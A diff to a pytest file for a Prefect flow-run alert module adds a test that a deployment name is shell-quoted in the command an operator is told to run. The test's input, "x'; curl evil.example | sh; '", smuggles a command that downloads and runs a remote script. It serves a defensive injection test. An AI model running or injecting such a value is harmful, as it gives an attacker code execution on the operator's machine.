@@ -1,13 +1,14 @@
 """Which runs an operator is told of, and what to do about each."""
 
 from datetime import UTC, datetime, timedelta
+from shlex import split
 from typing import Any
 from uuid import UUID, uuid4
 
 import pytest
 from prefect.client.schemas.objects import FlowRun, State, StateType
 
-from tasks.runs import _latest, _trouble
+from tasks.runs import _command, _latest, _trouble
 
 NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
 DEPLOYMENT = UUID(int=1)
@@ -48,3 +49,13 @@ def test_a_failure_that_was_made_good_is_no_news() -> None:
     assert _trouble(failed, _latest([failed, good]), NOW) is None
     queued = run(StateType.SCHEDULED, 0)
     assert _trouble(failed, _latest([failed, queued]), NOW), "a run that has not begun makes nothing good"
+
+
+def test_the_name_of_a_deployment_is_one_word_of_the_command_to_run() -> None:
+    """Whoever may write on the server names it, and the head of the office copies the command from a mail."""
+    failed = run(StateType.FAILED, 1)
+    trouble = _trouble(failed, _latest([failed]), NOW)
+    assert trouble is not None
+    do = trouble[2].partition("prefect ")[2]
+    name = "x'; curl evil.example | sh; '"
+    assert split(_command(do, name)) == ["deployment", "run", f"release/{name}"]
